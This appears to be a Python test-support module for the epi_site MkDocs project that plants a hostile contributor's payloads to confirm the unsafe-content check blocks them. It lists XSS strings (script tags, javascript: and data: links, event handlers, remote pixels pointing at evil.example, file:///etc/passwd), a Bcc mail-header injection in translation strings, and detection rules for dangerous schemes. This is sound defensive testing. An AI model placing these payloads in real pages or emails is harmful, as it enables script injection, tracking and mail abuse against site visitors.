"""A hostile contributor's corpus, a build that bypasses only the check of unsafe content, and the
invariants an HTML document must keep whatever a contributor wrote.

Every payload reaches for another host at evil.example, or runs alert(1): either would show in the
built files if the build let it through.
"""

from __future__ import annotations

import io
import os
import re
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import lxml.etree
import lxml.html
from pypdf import PdfWriter

from conftest import copy_project
from epi_site.content import loading
from epi_site.content.markup_check import UNSAFE
from epi_site.problems import Problems
from epi_site.safety.urls import normalise, scheme_of


@dataclass(frozen=True)
class Payload:
    kind: str  # the class of attack, for the closing count
    markdown: str
    message: str  # a fragment of the check's message
    fix: str  # a fragment of what the check says to write instead
    offset: int = 0  # the line of the payload the problem names, from its first


HTML = "is not allowed in a text"
SCHEME = "which links may not use"
REMOTE_IMAGE = "is not a file of this site"
ATTRIBUTE = "which texts may not set"
WRITE_MARKDOWN = "write it in Markdown"
LOCAL_IMAGE = "use a local image"
LINKS_MAY = "links may use https"
DELETE_BRACES = "delete the braces"

PAYLOADS = [
    # raw HTML
    Payload("raw HTML", "<script>alert(1)</script>", "<script>", WRITE_MARKDOWN),
    Payload("raw HTML", "<ScRiPt>alert(1)</sCrIpT>", "<script>", WRITE_MARKDOWN),
    Payload("raw HTML", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<script>", WRITE_MARKDOWN),
    Payload("raw HTML", "<img src=x onerror=alert(1)>", "<img>", LOCAL_IMAGE),
    Payload("raw HTML", '<p onmouseover="alert(1)">hover me</p>', "<p>", WRITE_MARKDOWN),
    Payload("raw HTML", '<iframe src="https://evil.example/"></iframe>', "<iframe>", "link to the video"),
    Payload("raw HTML", '<form action="https://evil.example/"><input name="q"><button>Go</button></form>', "<form>",
            WRITE_MARKDOWN),
    Payload("raw HTML", "<style>body { background: url(https://evil.example/bg.png) }</style>", "<style>", WRITE_MARKDOWN),
    Payload("raw HTML", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta>", WRITE_MARKDOWN),
    Payload("raw HTML", '<base href="https://evil.example/">', "<base>", WRITE_MARKDOWN),
    Payload("raw HTML", '<object data="https://evil.example/x.swf"></object>', "<object>", WRITE_MARKDOWN),
    Payload("raw HTML", '<embed src="https://evil.example/x.swf">', "<embed>", WRITE_MARKDOWN),
    Payload("raw HTML", '<img src="https://evil.example/pixel.gif" alt="">', "<img>", LOCAL_IMAGE),
    Payload("raw HTML", "<svg onload=alert(1)><circle r=1 /></svg>", "<svg>", WRITE_MARKDOWN),
    Payload("raw HTML", '<a href="javascript:alert(1)">click</a>', "<a>", "write a link in Markdown"),
    Payload("raw HTML", '<div style="background:url(https://evil.example/x.png)">styled</div>', "<div>", WRITE_MARKDOWN),
    Payload("raw HTML", '<link rel="stylesheet" href="https://evil.example/x.css">', "<link>", WRITE_MARKDOWN),
    Payload("raw HTML", '<video src="https://evil.example/v.mp4" autoplay></video>', "<video>", WRITE_MARKDOWN),
    Payload("raw HTML", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
            "<math>", WRITE_MARKDOWN),
    Payload("raw HTML", "<!-- a comment --><script>alert(1)</script>", "comment", WRITE_MARKDOWN),
    # schemes in inline links
    Payload("link scheme", "[x](javascript:alert(1))", "'javascript:'", LINKS_MAY),
    Payload("link scheme", "[x](JaVaScRiPt:alert(1))", "'javascript:'", LINKS_MAY),
    Payload("link scheme", "[x](java&#x09;script:alert(1))", "'javascript:'", LINKS_MAY),
    Payload("link scheme", "[x](&#106;avascript:alert(1))", "'javascript:'", LINKS_MAY),
    Payload("link scheme", "[x](&#x6A;&#x61;vascript&colon;alert(1))", "'javascript:'", LINKS_MAY),
    Payload("link scheme", "[x](%6Aavascript:alert(1))", "'javascript:'", LINKS_MAY),
    Payload("link scheme", "[x](  javascript:alert(1) \"a title\")", "'javascript:'", LINKS_MAY),
    Payload("link scheme", "[x](<javascript:alert(1)>)", "'javascript:'", LINKS_MAY),
    Payload("link scheme", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "'data:'", LINKS_MAY),
    Payload("link scheme", "[x](vbscript:msgbox(1))", "'vbscript:'", LINKS_MAY),
    Payload("link scheme", "[x](VBScript:msgbox(1))", "'vbscript:'", LINKS_MAY),
    Payload("link scheme", "[x](file:///etc/passwd)", "'file:'", LINKS_MAY),
    Payload("link scheme", "[x](//evil.example/)", "does not say how to reach", "starting with https://"),
    # reference-style links and autolinks
    Payload("reference link", "[x][evil1]\n\n[evil1]: javascript:alert(1)", "'javascript:'", LINKS_MAY, 2),
    Payload("reference link", "[x][evil2]\n\n[EVIL2]: JAVASCRIPT:alert(1) \"title\"", "'javascript:'", LINKS_MAY, 2),
    Payload("reference link", "[evil3]\n\n[evil3]: &#106;avascript:alert(1)", "'javascript:'", LINKS_MAY, 2),
    Payload("reference link", "[x][evil4]\n\n[evil4]: data:text/html,<script>alert(1)</script>", "'data:'", LINKS_MAY, 2),
    Payload("autolink", "<javascript:alert(1)>", "'javascript:'", LINKS_MAY),
    Payload("autolink", "<JaVaScRiPt:alert(1)>", "'javascript:'", LINKS_MAY),
    Payload("autolink", "<data:text/html,alert(1)>", "'data:'", LINKS_MAY),
    Payload("autolink", "<vbscript:msgbox(1)>", "'vbscript:'", LINKS_MAY),
    # images from elsewhere
    Payload("remote image", "![a pixel](https://evil.example/pixel.gif)", REMOTE_IMAGE, LOCAL_IMAGE),
    Payload("remote image", "![a pixel](HTTP://evil.example/pixel.gif)", REMOTE_IMAGE, LOCAL_IMAGE),
    Payload("remote image", "![a pixel](//evil.example/pixel.gif)", REMOTE_IMAGE, LOCAL_IMAGE),
    Payload("remote image", "![a pixel](\\\\evil.example/pixel.gif)", REMOTE_IMAGE, LOCAL_IMAGE),
    Payload("remote image", "![a pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", REMOTE_IMAGE, LOCAL_IMAGE),
    Payload("remote image", "![a pixel](javascript:alert(1))", REMOTE_IMAGE, LOCAL_IMAGE),
    Payload("remote image", "![a pixel][pixel1]\n\n[pixel1]: https://evil.example/pixel.gif", REMOTE_IMAGE, LOCAL_IMAGE, 2),
    Payload("remote image", "![pixel2]\n\n[pixel2]: //evil.example/pixel.gif", REMOTE_IMAGE, LOCAL_IMAGE, 2),
    # attr_list
    Payload("attr_list", 'A paragraph.\n{: onclick="alert(1)" }', "'onclick'", DELETE_BRACES, 1),
    Payload("attr_list", 'Styled.\n{: style="background:url(https://evil.example/x.png)" }', "'style'", DELETE_BRACES, 1),
    Payload("attr_list", "## A heading {: onmouseover=alert(1) }", "'onmouseover'", DELETE_BRACES),
    Payload("attr_list", '[a link](https://example.org){: onclick="alert(1)" }', "'onclick'", DELETE_BRACES),
    Payload("attr_list", "*emphasis*{: ONFOCUS=alert(1) tabindex=0 }", "'onfocus'", DELETE_BRACES),
    Payload("attr_list", "Classy.\n{: .evil-class }", "the class 'evil-class'", DELETE_BRACES, 1),
    Payload("attr_list", "Framed.\n{: #fine data-x=1 }", "'data-x'", DELETE_BRACES, 1),
    # resource limits
    Payload("nesting", "\n".join("\t" * i + "- level" for i in range(300)), "levels deep", "fewer levels", 20),
    Payload("nesting", "> " * 300 + "deep", "levels deep", "fewer levels"),
    Payload("long line", "[a](" * 5_000, "this line is too long", "shorter lines"),
    Payload("many brackets", "\n".join("[[[[[ [x](" for _ in range(60)), "more than 200 '['", "shorter paragraphs"),
]

# Where each kind of contributor text lives in the scratch project, and the page it is published on.
TEXTS = {
    "docs page": ("docs/contact.en.md", "contact/index.html"),
    "news item": ("content/news/partnership.en.md", "news/partnership/index.html"),
    "partner text": ("content/partners/tree.en.md", "partners/tree/index.html"),
    "newsletter introduction": ("content/newsletter/2020-q1.en.md", "news/2020-q1/index.html"),
}


def add_payloads(root: Path, file: str, payloads=PAYLOADS) -> dict[Payload, int]:
    """Append every payload to ``file``, each in its own paragraph; return the line of each."""
    path = root / file
    text = path.read_text(encoding="utf-8").rstrip("\n") + "\n"
    lines = {}
    for payload in payloads:
        text += "\n"
        lines[payload] = text.count("\n") + 1
        text += payload.markdown + "\n\nAfter the payload.\n"
    path.write_text(text, encoding="utf-8")
    return lines


class _Bypassing(Problems):
    """The check's problems, without the category under test: the build then meets the payloads."""

    def add(self, *args, category: str = "", **kwargs) -> None:
        if category != UNSAFE:
            super().add(*args, category=category, **kwargs)


def build_bypassing_the_check(root: Path, site: Path) -> None:
    """Build in this process, with the check of unsafe content (and only it) bypassed."""
    import pytest
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(loading, "Problems", _Bypassing)
        config = load_config(config_file=str(root / "mkdocs.yml"), site_dir=str(site), strict=False)
        build(config)


def build_unchecked(root: Path, site: Path) -> subprocess.CompletedProcess:
    """Build with every problem of the check ignored, to see what the build alone lets through."""
    code = (
        "import sys\n"
        "from epi_site import problems\nfrom epi_site.content import loading\n"
        "import epi_site.site_state as state\n"
        "real = loading.load_content\n"
        "def unchecked(project, *a, **k):\n"
        "    quiet = problems.Problems()\n"
        "    original_add = problems.Problems.add\n"
        "    problems.Problems.add = lambda self, *a, **k: None\n"
        "    try:\n"
        "        return real(project, *a, **k)[0], quiet\n"
        "    finally:\n"
        "        problems.Problems.add = original_add\n"
        "state.load_content = unchecked\n"
        "from mkdocs.__main__ import cli\n"
        f"sys.argv = ['mkdocs', 'build', '-q', '-f', {str(root / 'mkdocs.yml')!r}, '-d', {str(site)!r}]\n"
        "cli()\n")
    return subprocess.run([sys.executable, "-P", "-c", code], capture_output=True, text=True, cwd=root,
                          env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})


def make_pdf(plant=None, password: str | None = None) -> bytes:
    """A one-page PDF as an attacker's tool would make it: ``plant`` adds the active content."""
    writer = PdfWriter()
    writer.add_blank_page(72, 72)
    if plant:
        plant(writer)
    if password:
        writer.encrypt(password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hostile_project(target: Path) -> tuple[Path, dict]:
    root = copy_project(target)
    lines = {kind: add_payloads(root, file) for kind, (file, _) in TEXTS.items()}
    return root, lines


# --- the invariants -----------------------------------------------------------------------

DANGEROUS_SCHEMES = {"javascript", "data", "vbscript", "file", "invalid"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcset", "poster", "background", "xlink:href",
                  "cite", "longdesc", "manifest", "ping", "content"}
FORBIDDEN_ELEMENTS = ("iframe", "frame", "frameset", "form", "base", "object", "embed", "applet", "input", "button")
_CSS_URL = re.compile(r"url\(|@import", re.I)


def _attributes(element):
    return [(name.split("}")[-1].lower(), value) for name, value in element.attrib.items()]


def violations(document, site_host: str = "www.epi-project.com") -> list[str]:
    """What a hostile contributor could have slipped into ``document`` (an lxml HTML tree)."""
    found = []
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue
        tag = element.tag.split("}")[-1].lower()
        if tag == "script" and ("alert" in (element.text or "") or element.get("src", "").find("evil") >= 0):
            found.append(f"script: {lxml.html.tostring(element)[:80]!r}")
        if tag in FORBIDDEN_ELEMENTS:
            found.append(f"<{tag}>")
        if tag == "meta" and (element.get("http-equiv") or "").lower() == "refresh":
            found.append("meta refresh")
        if tag == "style" and _CSS_URL.search(element.text or ""):
            found.append("style element with url()")
        for name, value in _attributes(element):
            if name.startswith("on"):
                found.append(f"event handler {name} on <{tag}>")
            if name == "style" and _CSS_URL.search(value):
                found.append(f"style attribute with url() on <{tag}>")
            if name in URL_ATTRIBUTES and name != "content" and scheme_of(value) in DANGEROUS_SCHEMES:
                found.append(f"{name}={value[:60]!r} on <{tag}>")
            if name in {"src", "srcset", "poster", "data", "background"} or (tag == "link" and name == "href"):
                host = _host(value)
                if host and host != site_host:
                    found.append(f"remote resource {name}={value[:60]!r} on <{tag}>")
    return found


def _host(url: str) -> str:
    text = normalise(url)
    if text.startswith("//"):
        return text[2:].split("/")[0].lower()
    if scheme_of(text) in {"http", "https"}:
        return text.split("//", 1)[-1].split("/")[0].lower()
    return ""


def html_violations(markup: str) -> list[str]:
    if not markup.strip():
        return []
    return violations(lxml.html.fromstring(f"<div>{markup}</div>"))


def feed_violations(data: bytes) -> list[str]:
    """The HTML carried inside RSS and Atom entries, parsed as a reader would."""
    tree = lxml.etree.fromstring(data)
    found = []
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        name = element.tag.split("}")[-1]
        if name in {"description", "content", "summary", "encoded"} and element.text:
            found += html_violations(element.text)  # the XML parser has undone the one level of escaping
    return found


# --- catalog strings ------------------------------------------------------------------------

# What a translator's msgstr could carry beyond its words: line breaks that start a mail header of their
# own, and a width on every placeholder; every other string also a tag whose name a narrower rule would
# not read as one (the build then publishes the English words instead of that translation).
CATALOG_TAG = " <x_y onfocus=alert(1)>"
CATALOG_BREAKS = "\nBcc: victim@evil.example\r\nX-Line: two\u2028three"
CATALOG_WIDTH = 99_999


def hostile_catalog(root: Path, lang: str) -> int:
    """Every msgstr of ``lang`` made hostile as said above; returns how many."""
    import io

    from babel.messages.catalog import PYTHON_FORMAT
    from babel.messages.pofile import write_po

    from epi_site.content.i18n import read_catalog

    def widen(match) -> str:
        if match.group(3) == "%":
            return match.group(0)
        return f"%({match.group(1)}){CATALOG_WIDTH}{match.group(3)}" if match.group(1) else match.group(0)

    path = root / "locales" / f"{lang}.po"
    catalog = read_catalog(path, lang)
    changed = 0
    for message in catalog:
        if not message.id or not message.string:
            continue
        tail = CATALOG_BREAKS + (CATALOG_TAG if changed % 2 else "")
        if isinstance(message.string, (list, tuple)):
            message.string = tuple(PYTHON_FORMAT.sub(widen, s) + tail for s in message.string)
        else:
            message.string = PYTHON_FORMAT.sub(widen, message.string) + tail
        changed += 1
    buffer = io.BytesIO()
    write_po(buffer, catalog, width=0)
    path.write_bytes(buffer.getvalue())
    return changed
